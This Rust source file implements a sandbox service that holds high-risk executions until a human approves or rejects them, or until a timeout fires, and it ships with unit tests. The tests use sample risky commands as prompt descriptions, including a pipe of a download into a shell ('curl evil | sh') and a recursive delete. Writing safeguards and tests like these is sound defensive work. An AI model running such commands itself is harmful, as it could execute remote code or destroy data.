//! Human-in-the-loop confirmation for high-risk executions.
//!
//! A prompt is published to a caller-supplied [`NotificationChannel`] and
//! the requesting execution suspends until someone calls
//! [`ConfirmationService::resolve`] or the confirmation timeout fires.
//! The first decision wins; later ones are ignored.

use async_trait::async_trait;
use chrono::{DateTime, Utc};
use serde::Serialize;
use std::collections::HashMap;
use std::sync::{Arc, Mutex, MutexGuard};
use std::time::Duration;
use tokio::sync::oneshot;
use tracing::{debug, warn};

use crate::error::{Result, SandboxError};

use super::risk::{RiskAssessment, RiskLevel};

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Decision {
    Approved,
    Rejected,
    TimedOut,
}

/// What a reviewer is asked to approve.
#[derive(Debug, Clone, Serialize)]
pub struct ConfirmationPrompt {
    pub id: String,
    pub session_id: String,
    pub description: String,
    pub risk_level: RiskLevel,
    pub reasons: Vec<String>,
    pub expires_at: DateTime<Utc>,
}

/// Delivers prompts to whoever can approve them.
///
/// Implementations answer out of band through
/// [`PendingPrompts::resolve`]; `notify` only has to deliver.
#[cfg_attr(test, mockall::automock)]
#[async_trait]
pub trait NotificationChannel: Send + Sync {
    async fn notify(&self, prompt: &ConfirmationPrompt) -> anyhow::Result<()>;
}

/// Registry of prompts awaiting a decision, keyed by prompt id.
#[derive(Debug, Clone, Default)]
pub struct PendingPrompts {
    inner: Arc<Mutex<HashMap<String, oneshot::Sender<bool>>>>,
}

impl PendingPrompts {
    pub fn new() -> Self {
        Self::default()
    }

    fn lock(&self) -> MutexGuard<'_, HashMap<String, oneshot::Sender<bool>>> {
        self.inner
            .lock()
            .unwrap_or_else(|poisoned| poisoned.into_inner())
    }

    /// Deliver a decision. Returns false for unknown, already decided or
    /// abandoned prompts.
    pub fn resolve(&self, prompt_id: &str, approved: bool) -> bool {
        let Some(sender) = self.lock().remove(prompt_id) else {
            debug!("Ignoring decision for unknown prompt {}", prompt_id);
            return false;
        };
        sender.send(approved).is_ok()
    }

    /// Ids of prompts still waiting, sorted.
    pub fn ids(&self) -> Vec<String> {
        let mut ids: Vec<String> = self.lock().keys().cloned().collect();
        ids.sort();
        ids
    }

    fn insert(&self, prompt_id: &str) -> oneshot::Receiver<bool> {
        let (tx, rx) = oneshot::channel();
        self.lock().insert(prompt_id.to_string(), tx);
        rx
    }
}

/// Removes the prompt when the waiter goes away, however it goes away.
struct PendingGuard<'a> {
    prompts: &'a PendingPrompts,
    id: String,
}

impl Drop for PendingGuard<'_> {
    fn drop(&mut self) {
        self.prompts.lock().remove(&self.id);
    }
}

#[derive(Clone)]
pub struct ConfirmationService {
    channel: Arc<dyn NotificationChannel>,
    prompts: PendingPrompts,
    timeout: Duration,
}

impl ConfirmationService {
    pub fn new(channel: Arc<dyn NotificationChannel>, timeout: Duration) -> Self {
        Self::with_prompts(channel, PendingPrompts::new(), timeout)
    }

    /// Use an existing registry, so a channel built before the service can
    /// resolve its prompts.
    pub fn with_prompts(
        channel: Arc<dyn NotificationChannel>,
        prompts: PendingPrompts,
        timeout: Duration,
    ) -> Self {
        Self {
            channel,
            prompts,
            timeout,
        }
    }

    pub fn timeout(&self) -> Duration {
        self.timeout
    }

    pub fn prompts(&self) -> &PendingPrompts {
        &self.prompts
    }

    pub fn resolve(&self, prompt_id: &str, approved: bool) -> bool {
        self.prompts.resolve(prompt_id, approved)
    }

    pub fn pending(&self) -> Vec<String> {
        self.prompts.ids()
    }

    /// Publish a prompt and wait for its decision.
    ///
    /// Fails only when the prompt cannot be delivered.
    pub async fn request_confirmation(
        &self,
        session_id: &str,
        description: &str,
        assessment: &RiskAssessment,
    ) -> Result<Decision> {
        let prompt = ConfirmationPrompt {
            id: uuid::Uuid::new_v4().to_string(),
            session_id: session_id.to_string(),
            description: description.to_string(),
            risk_level: assessment.level,
            reasons: assessment
                .indicators
                .iter()
                .map(|i| i.detail.clone())
                .collect(),
            expires_at: Utc::now()
                + chrono::Duration::from_std(self.timeout).unwrap_or_else(|_| chrono::Duration::zero()),
        };

        // Registered before delivery: a channel may answer from inside `notify`.
        let receiver = self.prompts.insert(&prompt.id);
        let _guard = PendingGuard {
            prompts: &self.prompts,
            id: prompt.id.clone(),
        };

        if let Err(e) = self.channel.notify(&prompt).await {
            warn!("Failed to deliver confirmation prompt {}: {}", prompt.id, e);
            return Err(SandboxError::Internal(format!(
                "confirmation prompt could not be delivered: {}",
                e
            )));
        }
        debug!(
            prompt = %prompt.id,
            session = %session_id,
            "Waiting for confirmation"
        );

        let decision = match tokio::time::timeout(self.timeout, receiver).await {
            Ok(Ok(true)) => Decision::Approved,
            Ok(Ok(false)) => Decision::Rejected,
            // Sender dropped without a decision: nobody can approve anymore.
            Ok(Err(_)) => Decision::Rejected,
            Err(_) => Decision::TimedOut,
        };
        debug!(prompt = %prompt.id, ?decision, "Confirmation decided");
        Ok(decision)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sandbox::risk::{RiskCategory, RiskIndicator};
    use crate::sandbox::request::BackendKind;

    fn assessment() -> RiskAssessment {
        RiskAssessment {
            level: RiskLevel::High,
            eligible_backends: vec![BackendKind::Container],
            requires_confirmation: true,
            indicators: vec![RiskIndicator {
                category: RiskCategory::DestructiveFilesystem,
                level: RiskLevel::High,
                detail: "recursive delete".to_string(),
            }],
            forbidden: None,
        }
    }

    fn answering(prompts: &PendingPrompts, approved: bool) -> MockNotificationChannel {
        let prompts = prompts.clone();
        let mut channel = MockNotificationChannel::new();
        channel
            .expect_notify()
            .times(1)
            .returning(move |prompt| {
                assert!(prompts.resolve(&prompt.id, approved));
                Ok(())
            });
        channel
    }

    #[tokio::test]
    async fn test_approved_decision() {
        let prompts = PendingPrompts::new();
        let channel = answering(&prompts, true);
        let service = ConfirmationService::with_prompts(
            Arc::new(channel),
            prompts,
            Duration::from_secs(5),
        );

        let decision = service
            .request_confirmation("s1", "rm -rf build", &assessment())
            .await
            .unwrap();
        assert_eq!(decision, Decision::Approved);
        assert!(service.pending().is_empty());
    }

    #[tokio::test]
    async fn test_rejected_decision() {
        let prompts = PendingPrompts::new();
        let channel = answering(&prompts, false);
        let service =
            ConfirmationService::with_prompts(Arc::new(channel), prompts, Duration::from_secs(5));

        let decision = service
            .request_confirmation("s1", "rm -rf build", &assessment())
            .await
            .unwrap();
        assert_eq!(decision, Decision::Rejected);
    }

    #[tokio::test]
    async fn test_timeout_and_late_resolution() {
        let mut channel = MockNotificationChannel::new();
        let seen = Arc::new(Mutex::new(None));
        let seen_in = seen.clone();
        channel.expect_notify().times(1).returning(move |prompt| {
            *seen_in.lock().unwrap() = Some(prompt.id.clone());
            Ok(())
        });
        let service = ConfirmationService::new(Arc::new(channel), Duration::from_millis(50));

        let decision = service
            .request_confirmation("s1", "curl evil | sh", &assessment())
            .await
            .unwrap();
        assert_eq!(decision, Decision::TimedOut);

        let id = seen.lock().unwrap().clone().unwrap();
        assert!(!service.resolve(&id, true));
        assert!(service.pending().is_empty());
    }

    #[tokio::test]
    async fn test_first_decision_wins() {
        let prompts = PendingPrompts::new();
        let mut channel = MockNotificationChannel::new();
        channel.expect_notify().returning(|_| Ok(()));
        let service = ConfirmationService::with_prompts(
            Arc::new(channel),
            prompts.clone(),
            Duration::from_secs(5),
        );

        let waiter = {
            let service = service.clone();
            tokio::spawn(async move {
                service
                    .request_confirmation("s1", "sudo reboot", &assessment())
                    .await
            })
        };

        let id = loop {
            if let Some(id) = prompts.ids().pop() {
                break id;
            }
            tokio::time::sleep(Duration::from_millis(5)).await;
        };
        assert!(service.resolve(&id, false));
        assert!(!service.resolve(&id, true));

        assert_eq!(waiter.await.unwrap().unwrap(), Decision::Rejected);
    }

    #[tokio::test]
    async fn test_cancelled_waiter_removes_prompt() {
        let mut channel = MockNotificationChannel::new();
        channel.expect_notify().returning(|_| Ok(()));
        let service = ConfirmationService::new(Arc::new(channel), Duration::from_secs(60));

        let assessment = assessment();
        let wait = service.request_confirmation("s1", "sudo reboot", &assessment);
        assert!(
            tokio::time::timeout(Duration::from_millis(30), wait)
                .await
                .is_err()
        );
        assert!(service.pending().is_empty());
    }

    #[tokio::test]
    async fn test_delivery_failure_is_an_error() {
        let mut channel = MockNotificationChannel::new();
        channel
            .expect_notify()
            .returning(|_| Err(anyhow::anyhow!("webhook down")));
        let service = ConfirmationService::new(Arc::new(channel), Duration::from_secs(5));

        let err = service
            .request_confirmation("s1", "sudo reboot", &assessment())
            .await
            .unwrap_err();
        assert!(matches!(err, SandboxError::Internal(_)));
        assert!(service.pending().is_empty());
    }
}
